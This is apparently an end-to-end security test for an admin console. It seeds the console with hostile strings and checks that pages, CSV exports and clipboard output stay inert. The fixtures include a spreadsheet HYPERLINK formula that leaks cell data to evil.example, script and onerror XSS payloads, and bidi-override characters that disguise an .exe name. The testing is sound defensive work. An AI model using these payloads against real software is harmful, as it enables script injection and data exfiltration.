import { readFile } from 'node:fs/promises'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { PATHS } from '../../../src/machineid/paths.ts'
import { askedApproval, runReport } from '../../fixtures/approvals.ts'
import { hasChromium, startBrowser, type Browser, type BrowserPage } from '../../fixtures/browser.ts'
import { goTo, signIn, troubleOf } from '../../fixtures/console-pages.ts'
import { startConsoleWorld, type ConsoleWorld } from '../../fixtures/console-world.ts'
import { drillReport } from '../../fixtures/drill-report.ts'

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
/** Would turn round and hide what is read. */
const MARKS = '\u202Egnp.exe\u2066\u200B'
const HTML = '<img src="//evil.example/x" onerror="window.pwned=1"><script>window.pwned=1</script>'
/** What is shown of the first of `MARKS`. */
const SHOWN = '⟨U+202E⟩'
const UNSEEN = /[\u200B-\u200F\u202A-\u202E\u2066-\u2069]/

/** As much of it as may be there, in one unbroken word at its end. */
const hostile = (length: number) => `${FORMULA}${MARKS}${HTML}${'W'.repeat(10_000)}`.slice(0, length)
const short = (length: number) => `=1+${MARKS}<b onclick="pwned=1">`.slice(0, length)

/** As hostile as an ID can be: a spreadsheet takes the first character for the beginning of a formula. */
const DEVICE = `-1-2:prod:${'p'.repeat(50)}:${'x'.repeat(60)}`
const RUN = short(128)

describe.skipIf(!hasChromium('hostile texts in the console'))('hostile texts in the console', () => {
  let world: ConsoleWorld
  let browser: Browser
  let page: BrowserPage
  const dialogs: string[] = []
  let paths: Readonly<Record<string, string>>

  const plant = async (): Promise<Readonly<Record<string, string>>> => {
    const name = hostile(100)
    const runtime: { readonly key: string } = await world.post(PATHS.keys, {
      kind: 'runtime',
      name,
      bindings: ['*'],
    })
    const asAgent = async (path: string, body: unknown) => {
      const headers = { 'content-type': 'application/json', 'x-org-key': runtime.key }
      const response = await fetch(world.agentUrl + path, {
        method: 'POST',
        headers,
        body: JSON.stringify(body),
      })
      const answer = (await response.json()) as { readonly request_id: string }
      if (!response.ok) throw new Error(JSON.stringify(answer))
      return answer
    }
    const labels = { [short(64)]: hostile(256), [hostile(60)]: short(200) }
    await world.post(PATHS.register, { deviceId: DEVICE, labels })
    await world.post(PATHS.register, { deviceId: '-1-2:prod:other:1' })
    const replica = hostile(256)
    await asAgent(PATHS.presence, {
      replica,
      devices: [{ deviceId: DEVICE, inFlight: 1 }],
      timeoutMs: 800,
      latencyMs: null,
    })
    const ask = { boundary: hostile(256), tool: hostile(256), callId: hostile(256), runId: RUN, replica }
    await asAgent(PATHS.validate, { deviceId: DEVICE, context: ask })
    const revoke = await world.post(PATHS.revoke, { deviceId: DEVICE, reason: hostile(500) })
    const { request_id: decision } = await asAgent(PATHS.validate, { deviceId: DEVICE, context: ask })
    const call = { callId: hostile(256), runId: RUN, tool: hostile(256), end: 'unknown' }
    const counts = { aborted: 0, finished: 0, unknown: 1, running: 0 }
    await asAgent(PATHS.stopsAck, {
      replica,
      acks: [{ epoch: revoke.epoch, phase: 'settled', ...counts, calls: [call] }],
    })
    const lock = await world.post(PATHS.locks, { pattern: '*:*:*:*', reason: hostile(500) })

    const args = { [hostile(300)]: hostile(10_000), [short(50)]: [short(60), { [MARKS]: null }] }
    const texts = {
      agent: hostile(256),
      caller: hostile(256),
      callId: hostile(512),
      tool: hostile(256),
      surface: hostile(256),
    }
    const expiresAt = new Date(Date.now() + 3_600_000).toISOString()
    const asked = ['a-waits', 'a-declined'].map((id) =>
      askedApproval(id, { ...texts, runId: RUN, deviceIds: [DEVICE], args, expiresAt }),
    )
    await asAgent(PATHS.approvals, { approvals: asked })
    const declined = { digest: asked[1]?.digest, approve: false, message: hostile(2000) }
    await world.post(PATHS.approvalDecide.replace(':id', 'a-declined'), declined)

    const at = new Date().toISOString()
    const run = {
      runId: RUN,
      agent: hostile(256),
      caller: hostile(256),
      code: hostile(64),
      createdAt: at,
      changedAt: at,
    }
    const effect = {
      id: hostile(256),
      effect: hostile(256),
      kind: hostile(64),
      tool: hostile(256),
      callId: hostile(512),
    }
    const detail = {
      [hostile(64)]: hostile(512),
      tool: hostile(512),
      call_id: hostile(512),
      request_id: hostile(200),
      boundary: short(50),
    }
    await asAgent(
      PATHS.runsReport,
      runReport(RUN, {
        replica,
        runs: [{ ...run, status: short(32) }],
        steps: [short(64), 'tool_called', 'held', 'denied', 'approval_asked'].map((type, seq) => ({
          runId: RUN,
          seq,
          at,
          type,
          detail,
        })),
        unknownEffects: [{ ...effect, runId: RUN, changedAt: at }],
      }),
    )
    const drill = drillReport(world.secrets.orgId, 'd-hostile')
    const [step] = drill.steps
    const measures =
      step?.measures.map((measure) => ({
        ...measure,
        replica,
        surface: short(64),
        codes: { [hostile(60)]: 1 },
      })) ?? []
    const steps = step === undefined ? [] : [{ ...step, held: false, note: hostile(500), measures }]
    const toolServers = [{ url: hostile(300), replica, stopStream: 'up' as const }]
    const target = { kind: 'surface' as const, deviceIds: [hostile(128), DEVICE] }
    await world.post(PATHS.drills, { report: { ...drill, held: false, target, steps, toolServers } })
    await world.post(PATHS.orgDisable, { reason: hostile(500) })
    return {
      overview: '/',
      devices: '/devices',
      drawer: `/devices?device=${encodeURIComponent(DEVICE)}`,
      locks: '/devices?tab=locks',
      stops: '/stops',
      'stop of a device': `/stops/${revoke.epoch}`,
      'stop by a lock': `/stops/${lock.epoch}`,
      approvals: '/approvals',
      'approval that waits': '/approvals/a-waits',
      'approval that was declined': '/approvals/a-declined',
      runs: '/runs',
      run: `/runs/${encodeURIComponent(RUN)}`,
      decisions: '/decisions',
      decision: `/decisions/${decision}`,
      keys: '/keys',
      plan: '/plan',
      audit: '/audit',
      drills: '/drills',
      drill: '/drills/d-hostile',
    }
  }

  /** What a hostile text has made of the page; all of it must be nothing. */
  const harm = () =>
    page.evaluate<{
      readonly pwned: boolean
      readonly elements: number
      readonly wider: number
      readonly html: string
    }>(`({
      pwned: 'pwned' in window,
      elements: document.querySelectorAll('img, iframe, [onerror], [onload], [onclick], script:not([src^="/console/"])').length,
      wider: document.documentElement.scrollWidth - window.innerWidth,
      html: document.documentElement.outerHTML,
    })`)
  /** Until all that it asked for has come. */
  const settled = async () => {
    let before = -1
    const isSettled = async () => {
      const length = await page.evaluate<number>('document.body.innerHTML.length')
      const same = length === before && (await page.getByRole('status', { name: 'Loading' }).count()) === 0
      before = length
      return same
    }
    await expect.poll(isSettled, { timeout: 8000, interval: 100 }).toBe(true)
  }
  const expectNoHarm = async (where: string) => {
    await settled()
    for (const width of [1280, 360]) {
      await page.setViewportSize({ width, height: 900 })
      const { pwned, elements, wider, html } = await harm()
      expect({ pwned, elements }, where).toEqual({ pwned: false, elements: 0 })
      expect(wider, `${where}, ${width} px wide`).toBeLessThanOrEqual(0)
      const at = html.search(UNSEEN)
      expect(at === -1 ? '' : html.slice(Math.max(0, at - 200), at + 20), where).toBe('')
    }
    await page.setViewportSize({ width: 1280, height: 900 })
  }
  const shown = (within: Pick<BrowserPage, 'getByText'> = page) =>
    expect.poll(() => within.getByText(SHOWN).count(), { timeout: 8000 })
  beforeAll(async () => {
    world = await startConsoleWorld({ toolServer: false, env: { DECISION_LOG: 'all' } })
    paths = await plant()
    browser = await startBrowser()
    page = await browser.open(`${world.url}/console/`)
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
    await signIn(page, world.secrets.admin)
  }, 60_000)
  afterAll(async () => {
    await browser?.close()
    await world?.close()
  })

  it('are shown as text on every page, marks by their codes, and make no page wider', async () => {
    for (const [name, path] of Object.entries(paths)) {
      const banners = await page.locator('.banners').getByText(SHOWN).count()
      await goTo(page, path)
      await page.getByRole('heading', { level: 1 }).first().waitFor()
      if (['plan', 'drills'].includes(name)) await shown().toBeGreaterThan(0)
      else
        await expect
          .poll(() => page.getByText(SHOWN).count(), { message: name, timeout: 8000 })
          .toBeGreaterThan(banners)
      await expectNoHarm(name)
    }
  }, 120_000)

  it('are shown as text in what opens: rows of the audit, forms about devices and keys', async () => {
    await goTo(page, '/audit')
    await page.getByRole('button', { name: /^Row/ }).first().waitFor()
    for (const row of await page.getByRole('button', { name: /^Row/ }).all()) await row.click()
    await shown(page.getByRole('table', { name: /^What row/ })).toBeGreaterThan(0)
    await expectNoHarm('rows of the audit')

    const dialog = page.getByRole('dialog')
    for (const [path, button] of [
      ['/keys', /^Burn =/],
      ['/keys', /^Rotate =/],
      ['/devices', /^Restore -1-2/],
      ['/devices?tab=locks', /^Release/],
    ] as const) {
      await goTo(page, path)
      await page.getByRole('button', { name: button }).first().click()
      await shown(dialog).toBeGreaterThan(0)
      await expectNoHarm(String(button))
      await dialog.getByRole('button', { name: 'Cancel' }).click()
      await dialog.waitFor({ state: 'detached' })
    }
  }, 60_000)

  it('are formulas in no file and no text that is made for a spreadsheet', async () => {
    const formula = /(?:^|[,\t\r\n])"?[=+\-@＝＋－＠]/m
    await goTo(page, '/audit')
    const coming = page.waitForEvent('download')
    await page.getByRole('link', { name: 'Export CSV' }).click()
    const audit = await readFile(await (await coming).path(), 'utf8')
    expect(audit).toContain(`"'=HYPERLINK(""http`)
    expect(audit).not.toMatch(formula)

    await goTo(page, '/plan')
    await page.getByLabel('Plan', { exact: true }).selectOption('another number')
    await page.getByLabel('Devices', { exact: true }).fill('0')
    const saved = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Export the list as CSV' }).click()
    const plan = await readFile(await (await saved).path(), 'utf8')
    expect(plan).toContain(`'${DEVICE},`)
    expect(plan).not.toMatch(formula)

    await goTo(page, '/devices')
    await page.getByRole('button', { name: /^Select all 2/ }).click()
    await page.getByRole('button', { name: 'Revoke selected' }).click()
    const dialog = page.getByRole('dialog')
    await dialog.getByLabel('Reason').fill(hostile(500))
    await dialog.getByRole('button', { name: /^Revoke 2/ }).click()
    await dialog.getByRole('button', { name: 'Copy results' }).click()
    await dialog.getByRole('button', { name: 'Copied' }).waitFor()
    const results = await page.evaluate<string>('navigator.clipboard.readText()')
    expect(results).toContain(`'${DEVICE}\tdone`)
    expect(results).not.toMatch(formula)
    await expectNoHarm('results')
  })

  it('are shown as text on the stop page', async () => {
    await page.goto(`${world.url}/console/stop`)
    await shown().toBeGreaterThan(0)
    await expectNoHarm('stop page')
    await page
      .getByRole('button', { name: /^Stop p/ })
      .first()
      .click()
    await page.getByRole('dialog').waitFor()
    await expectNoHarm('form of the stop page')
  })

  it('ran nothing, asked for nothing elsewhere, and made the browser complain of nothing', () => {
    expect(dialogs).toEqual([])
    expect(
      page.requested.filter((url) => !url.startsWith(`${world.url}/`) && !/^(?:data|blob):/.test(url)),
    ).toEqual([])
    expect(troubleOf(page)).toEqual([])
  })
})
